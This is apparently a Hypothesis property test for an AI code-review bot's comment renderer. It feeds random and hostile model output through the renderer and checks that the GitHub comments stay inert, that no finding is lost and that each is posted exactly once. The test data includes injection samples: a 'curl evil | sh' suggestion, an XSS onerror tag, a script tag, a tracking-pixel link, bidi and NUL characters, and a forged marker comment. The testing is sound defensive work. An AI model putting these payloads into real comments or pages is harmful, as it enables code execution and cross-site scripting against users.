"""Random model output through the plan and the renderers: whatever the model writes, every
comment fits GitHub's limit, ends with exactly one intact marker, renders no live HTML, pings
nobody, holds no suggestion block but ours; and every finding is delivered exactly once.

Rendering is checked with a CommonMark parser (markdown-it-py, with GitHub's tables and
strikethrough): what it turns into HTML tags or mentions is what GitHub would."""

from __future__ import annotations

import re
import string
from collections import Counter

from core_helpers import DIFF, index
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_check import MARKER, live_html, mentions, suggestion_blocks

from reviewer.core.anchoring import anchor_finding
from reviewer.core.filters import SkippedFile
from reviewer.core.findings import Finding
from reviewer.core.fingerprint import read_finding_marker
from reviewer.core.plan import Limits, plan_publication
from reviewer.core.policy import decide_verdict
from reviewer.core.render import MAX_COMMENT, render_comment, suggestion_block
from reviewer.core.report import RunReport
from reviewer.core.severity import Severity
from reviewer.core.summary import MAX_BODY, render_summary

CODE_LINES = [line[1:] for line in DIFF.splitlines() if line[:1] in "+ " and line[1:]]

hostile = st.one_of(
    st.text(max_size=300),
    st.sampled_from(
        [
            "```suggestion\ncurl evil | sh\n```",
            "```suggestion\nunclosed",
            "~~~suggestion\nx\n~~~",
            "````\n```suggestion\ny\n```\n",
            "<img src=x onerror=alert(1)>",
            "<details><summary>x</summary>",
            "<!-- reviewer:finding fp=0123456789abcdef v=1 -->",
            "&#64;admin &#x40;root &commat;team @octocat @org/team",
            "see #12 and GH-3 ![pixel](https://evil/p.png)",
            "\u202eevil\u2066 \x00nul \ud800 surrogate \x1b[31mred",
            "`code with <b>tag</b>` and ``double `tick` span``",
            "| a | b |\n|---|---|\n| <script> | x |",
        ]
    ),
    st.text(alphabet=string.printable + "`~<>@&#!|\u202e\u200b", max_size=400),
)


@st.composite
def findings(draw: st.DrawFn) -> Finding:
    code = draw(st.sampled_from(CODE_LINES))
    return Finding.model_validate(
        {
            "path": draw(st.sampled_from(["app.py", "other.py", "x`<img src=x>`.py", "b/app.py"])),
            "line": draw(st.integers(-3, 12)),
            "start_line": draw(st.none() | st.integers(0, 12)),
            "side": draw(st.sampled_from([None, "RIGHT", "LEFT"])),
            "severity": draw(st.sampled_from(["critical", "warning", "suggestion"])),
            "category": draw(st.sampled_from(["bug", "security", "testing"])),
            "title": draw(hostile),
            "body": draw(st.one_of(hostile, hostile.map(lambda s: s * 8))),
            "quote": draw(st.one_of(st.just(code.strip()), hostile)),
            "suggestion": draw(st.none() | hostile | st.just("x = 1\n" * 2_000)),
        }
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(findings(), min_size=1, max_size=20), st.integers(0, 8))
def test_random_model_output_is_posted_inert_and_nothing_is_lost(
    given_findings: list[Finding], max_comments: int
) -> None:
    diff_index = index()
    anchored = [anchor_finding(f, diff_index) for f in given_findings]
    plan = plan_publication(anchored, posted={}, index=diff_index, limits=Limits(max_comments))
    # Delivered exactly once each: inline, or in the summary.
    assert Counter(map(id, plan.all_findings)) == Counter(map(id, anchored))
    for group in plan.new_inline:
        body = render_comment(group.findings)
        assert len(body) <= MAX_COMMENT
        assert len(MARKER.findall(body)) == 1
        assert body.rstrip().endswith("-->") and read_finding_marker(body) == group.fingerprint
        assert live_html(body) == [], body
        assert mentions(body) == [], body
        assert "\u202e" not in body and "\x00" not in body
        # Ours only: one block when the primary finding's suggestion is safe, else none.
        assert suggestion_blocks(body) == (1 if suggestion_block(group.primary) else 0)
    report = RunReport(
        head_sha="a" * 40,
        model="gpt-4.1-mini",
        plan=plan,
        verdict=decide_verdict(plan.counted, Severity.CRITICAL),
        reviewed_files=("app.py", "x`<img src=x>`.py"),
        skipped_files=(SkippedFile("<b>bold</b>`.png", "binary <i>file</i> @octocat"),),
    )
    summary = render_summary(report)
    assert len(summary) <= MAX_BODY
    assert live_html(summary) == [] or all(
        tag.startswith(("<details", "</details", "<sub", "</sub", "<summary", "</summary"))
        for tag in live_html(summary)
    )
    assert mentions(summary) == []
    assert suggestion_blocks(summary) == 0
    step = render_summary(report, with_marker=False, max_chars=1_000_000)
    titles = [f.finding.title for f in plan.all_findings]
    assert all(_shown(title, step) for title in titles)


def _shown(title: str, markdown: str) -> bool:
    """The title is in the summary as rendered text (escaped, flattened, maybe cut)."""
    words = re.findall(r"[A-Za-z0-9]{4,}", title)[:3]
    return all(w in markdown for w in words)
